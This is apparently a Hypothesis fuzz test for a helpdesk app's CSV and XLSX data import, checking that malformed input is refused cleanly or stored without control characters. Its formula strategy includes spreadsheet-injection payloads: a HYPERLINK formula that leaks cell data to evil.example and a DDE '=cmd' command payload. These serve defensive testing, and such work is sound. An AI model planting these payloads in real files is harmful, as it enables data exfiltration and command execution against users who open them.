"""Bad input over every import kind, CSV and XLSX: never an exception, never a partial write.

Hypothesis writes files whose cells mix plausible values with random Unicode, control
characters, huge and negative numbers and spreadsheet formulas. Each file goes in with a valid
companion file; for every example either the import is refused and no table changed at all, or
it is committed, stores clean text, and importing it again changes nothing.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from html import unescape

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from helpdesk.auth.models import User
from helpdesk.extensions import db
from helpdesk.imports import run_import
from helpdesk.imports.reader import KINDS
from helpdesk.imports.schemas import HANDLERS
from helpdesk.reports.models import ORGANISATION_KEYS

from .conftest import PASSWORD, login

BASE = {
    "units.csv": "code,level,kind,name,parent_code\n"
    "S1,department,Sở,Tư pháp,\nD1,district,quận,Lê Chân,\nC1,commune,phường,An Biên,D1\n",
    "categories.csv": "code,audience,label,report_phrase\n"
    "acc,citizen,Tài khoản,hỗ trợ tài khoản\nsys,agency,Hệ thống,hỗ trợ sử dụng hệ thống\n",
    "users.csv": "username,full_name,role\nhoa.nt,Nguyễn Thị Hoa,operator\n",
}
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

formulas = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "=1+1",
        "+84912345678",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "\t=1",
    ]
)
huge = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(["1e308", "NaN", "-0", "1.000.000.000.000.000.000", "88.904", "1,5", "٣"]),
)
nasty_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40) | st.text(
    alphabet=st.sampled_from("\x00\x01\x07\x0b\x1b\x7f\u200b\u202e\ufeff aĐ"), max_size=8
)

PLAUSIBLE = {
    "month": st.sampled_from(["2023-09", "2023-9", "2023-13", "09/2023", "1999-01", "2023-10"]),
    "opened_at": st.sampled_from(
        [
            "2023-09-01T08:30",
            "2023-09-01 08:30:00",
            "2023-02-30T08:00",
            "2099-01-01T00:00",
            "2023-09-01T08:30+07:00",
            "hôm qua",
        ]
    ),  # fmt: skip
    "resolved_at": st.sampled_from(["", "2023-09-02T10:00", "2023-08-01T00:00", "mai"]),
    "population_as_of": st.sampled_from(["2023-09-30", "30/09/2023", "2023-09-31", ""]),
    "code": st.sampled_from(["S1", "D1", "C1", "N1", "N 2", "ĐV1", "x" * 40]),
    "unit_code": st.sampled_from(["S1", "D1", "C1", "ZZ", ""]),
    "parent_code": st.sampled_from(["", "D1", "S1", "C1", "ZZ"]),
    "level": st.sampled_from(["department", "district", "commune", "DISTRICT", "tỉnh"]),
    "kind": st.sampled_from(["Sở", "quận", "phường", "xã", ""]),
    "audience": st.sampled_from(["citizen", "agency", "Citizen", "công dân"]),
    "category": st.sampled_from(["acc", "sys", "none"]),
    "role": st.sampled_from(["operator", "supervisor", "admin", "root"]),
    "username": st.sampled_from(["hoa.nt", "tuan.pv", "Tuấn", "a", "new.user"]),
    "operator": st.sampled_from(["hoa.nt", "", "nobody"]),
    "channel": st.sampled_from(["phone", "zalo", "", "fax"]),
    "status": st.sampled_from(["open", "closed", "resolved", "", "done"]),
    "requester_phone": st.sampled_from(["0912 345 678", "+84 912 345 678", "12345", ""]),
    "dossier_code": st.sampled_from(["000.00.12.H26-230901-0001", "ABC", ""]),
    "key": st.sampled_from([*ORGANISATION_KEYS, "unknown_key"]),
    "due_days": st.sampled_from(["3", "0", "61", "-1", ""]),
}


free_text = st.one_of(
    st.sampled_from(["Nguyễn Thị Hoà", "Phường Thuỷ Sơn", "Sở Tư pháp"]),
    nasty_text.filter(str.strip),
    formulas,
)
maybe = st.sampled_from([True, False])
figure = st.integers(min_value=0, max_value=10**12)


@st.composite
def valid_row(draw, kind: str, i: int) -> dict[str, str]:
    """A row that breaks no rule of its kind; its free-text cells are as nasty as they come."""
    if kind == "organisation":
        return {"key": ORGANISATION_KEYS[i % len(ORGANISATION_KEYS)], "value": draw(free_text)}
    if kind == "units":
        level, unit_kind, parent = draw(
            st.sampled_from([("department", "Sở", ""), ("district", "quận", ""),
                             ("commune", "phường", "D1")])
        )  # fmt: skip
        return {"code": f"N{i}", "level": level, "kind": unit_kind, "name": draw(free_text),
                "parent_code": parent}  # fmt: skip
    if kind == "categories":
        return {"code": f"n{i}", "audience": draw(st.sampled_from(["citizen", "agency"])),
                "label": draw(free_text), "report_phrase": draw(free_text),
                "due_days": draw(st.sampled_from(["", "0", "3", "60"]))}  # fmt: skip
    if kind == "users":
        return {"username": f"u{i}.moi", "full_name": draw(free_text),
                "role": draw(st.sampled_from(["operator", "supervisor", "admin"]))}  # fmt: skip
    if kind == "unit_stats":
        part, rest, fee, paid = draw(figure), draw(figure), draw(figure), draw(figure)
        row = {"month": f"2023-{i + 1:02d}", "unit_code": draw(st.sampled_from(["S1", "D1", "C1"])),
               "received": str(part + rest), "online": str(part),
               "signed_results": draw(figure.map(str)), "payment_procedures": "",
               "payment_transactions": f"{fee + paid:,}".replace(",", "."),
               "fee_transactions": str(fee), "payment_amount": "", "fee_amount": ""}  # fmt: skip
        return {k: ("" if draw(st.integers(0, 4)) == 0 else v) for k, v in row.items()} | {
            "month": row["month"],
            "unit_code": row["unit_code"],
        }
    if kind == "city_stats":
        matched, more = draw(figure), draw(figure)
        return {"month": f"2023-{i + 1:02d}", "population_lookups": str(matched + more),
                "population_matched": str(matched),
                "population_as_of": draw(st.sampled_from(["", "2023-09-30"]))}  # fmt: skip
    if kind == "activities":
        return {"month": draw(st.sampled_from(["2023-09", "2023-10"])), "text": draw(free_text)}
    audience, category = draw(st.sampled_from([("citizen", "acc"), ("agency", "sys")]))
    status = draw(st.sampled_from(["", "open", "in_progress", "forwarded", "resolved", "closed"]))
    return {
        "opened_at": f"2023-09-{i + 1:02d}T08:30", "audience": audience, "category": category,
        "channel": draw(st.sampled_from(["", "phone", "zalo", "walk_in"])),
        "requester_name": draw(free_text),
        "requester_phone": draw(st.sampled_from(["", "0912 345 678", "+84 225 3123 456"])),
        "unit_code": draw(st.sampled_from(["", "S1", "C1"])),
        "dossier_code": draw(st.sampled_from(["", "000.00.12.H26-230901-0001"])),
        "summary": draw(free_text),
        "status": status,
        "resolved_at": draw(st.sampled_from(["", "2023-12-01T00:00"])),
        "operator": draw(st.sampled_from(["", "hoa.nt"])),
    }  # fmt: skip


def wild_cell(column: str) -> st.SearchStrategy:
    """Anything at all: plausible, malformed, huge, a formula, control characters."""
    plausible = PLAUSIBLE.get(column, st.text(min_size=1, max_size=30))
    return st.one_of(plausible, nasty_text, formulas, huge, st.just(""))


xlsx_values = st.one_of(
    st.integers(min_value=-(10**18), max_value=10**18),
    st.floats(allow_nan=True, allow_infinity=False),
    st.booleans(),
    st.datetimes(min_value=datetime(1990, 1, 1), max_value=datetime(2100, 1, 1)),
    st.dates(min_value=date(1990, 1, 1), max_value=date(2100, 1, 1)),
)


@st.composite
def import_file(draw, kind: str) -> tuple[str, bytes]:
    columns = HANDLERS[kind].columns
    headers = [c for c, required in columns.items() if required or draw(st.booleans())]
    headers = list(draw(st.permutations(headers)))
    wild = draw(st.integers(0, 2)) == 0  # a third of the files: anything anywhere
    count = draw(st.integers(min_value=0, max_value=6))
    if wild:
        rows = [[draw(wild_cell(h)) for h in headers] for _ in range(count)]
    else:
        rows = [
            [r.get(h, "") for h in headers]
            for r in (draw(valid_row(kind, i)) for i in range(count))
        ]
    if draw(st.integers(0, 19)) == 0:
        headers.append(draw(st.sampled_from(["ghi_chu", "=1+1"])))  # an unknown column
    if draw(st.integers(0, 19)) == 0:
        headers = headers[1:]  # a column goes missing (maybe a required one)
    if draw(st.booleans()):
        headers = [h.upper() for h in headers]
    if draw(st.sampled_from(["csv", "xlsx"])) == "csv":
        out = io.StringIO(newline="")
        writer = csv.writer(out)
        writer.writerow(headers)
        writer.writerows(rows)
        return f"{kind}.csv", out.getvalue().encode("utf-8")
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        # XLSX cells also hold numbers, dates and booleans; some characters cannot be stored.
        sheet.append(
            [draw(xlsx_values) if wild and draw(maybe) else ILLEGAL_CHARACTERS_RE.sub("", v)
             for v in row]
        )  # fmt: skip
    data = io.BytesIO()
    workbook.save(data)
    return f"{kind}.xlsx", data.getvalue()


def contents() -> dict[str, list]:
    with db.engine.connect() as conn:
        return {
            t.name: sorted(repr(tuple(r)) for r in conn.execute(sa.select(t)))
            for t in db.metadata.sorted_tables
        }


def stored_text() -> list[str]:
    values = []
    with db.engine.connect() as conn:
        for table in db.metadata.sorted_tables:
            columns = [c for c in table.columns if isinstance(c.type, sa.String | sa.Text)]
            if columns and table.name not in ("audit_log",):
                for row in conn.execute(sa.select(*columns)):
                    values.extend(v for v in row if v)
    return values


def companion(kind: str, n: int) -> tuple[str, bytes]:
    """A valid file of another kind: it must not be written when the fuzzed file is refused."""
    if kind == "units":
        return (
            "categories.csv",
            f"code,audience,label,report_phrase\nc{n},citizen,Nhóm {n},nhóm {n}\n".encode(),
        )
    return "units.csv", f"code,level,kind,name,parent_code\nK{n},department,Sở,Kèm {n},\n".encode()


@pytest.fixture
def base_app(app):
    report = run_import([(name, text.encode()) for name, text in BASE.items()])
    assert report.ok, [str(e) for e in report.errors]
    return app


@pytest.mark.parametrize("kind", KINDS)
def test_import_bad_input_never_raises_never_half_writes(base_app, kind):
    counter = iter(range(10**6))

    @settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(upload=import_file(kind))
    def check(upload):
        name, _data = upload
        files = [upload, companion(kind, next(counter))]
        before = contents()
        report = run_import(files)
        event("refused" if report.errors else "committed")
        if not report.ok:
            assert not report.committed
            assert contents() == before, "a refused import changed the database"
            for error in report.errors:
                assert str(error).startswith((name, files[1][0])), str(error)
            return
        assert report.committed
        assert not [v for v in stored_text() if CONTROL.search(v)], "control characters stored"
        after = contents()
        again = run_import(files)
        assert again.ok, [str(e) for e in again.errors]
        assert [(f.added, f.updated) for f in again.files] == [(0, 0)] * len(files)
        assert contents() == after, "importing the same files twice changed something"

    check()


def _hidden(html: str, name: str) -> str | None:
    found = re.search(rf'name="{name}"[^>]*value="([^"]*)"', html) or re.search(
        rf'value="([^"]*)"[^>]*name="{name}"', html
    )
    return unescape(found.group(1)) if found else None


def test_web_upload_bad_input_never_fails(app_factory, tmp_path):
    """The same files through the browser: preview, then confirm. Never a 500."""
    app = app_factory(IMPORT_UPLOAD_DIR=str(tmp_path / "uploads"))
    report = run_import([(name, text.encode()) for name, text in BASE.items()])
    assert report.ok
    admin = User(username="quan.tri", full_name="Quản trị", role="admin")
    admin.set_password(PASSWORD)
    db.session.add(admin)
    db.session.commit()
    client = app.test_client()
    assert login(client, "quan.tri").status_code == 302

    @settings(  # each example renders a preview and may import twice: fewer of them
        max_examples=25,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(upload=st.sampled_from(KINDS).flatmap(import_file), auto=st.booleans())
    def check(upload, auto):
        name, data = upload
        before = contents()
        kind = "" if auto else name.split(".")[0]
        preview = client.post(
            "/so-lieu/nhap",
            data={"kind": kind, "files": (io.BytesIO(data), name)},
            content_type="multipart/form-data",
        )
        assert preview.status_code < 500, preview.get_data(as_text=True)[-500:]
        assert contents() == before, "a preview wrote to the database"
        html = preview.get_data(as_text=True)
        token = _hidden(html, "token")
        if token is None:
            return
        confirm = {n: _hidden(html, n) for n in ("token", "digest", "fingerprint")}
        done = client.post("/so-lieu/nhap/xac-nhan", data=confirm)
        assert done.status_code in (200, 302), done.status_code
        assert not [v for v in stored_text() if CONTROL.search(v)]

    check()
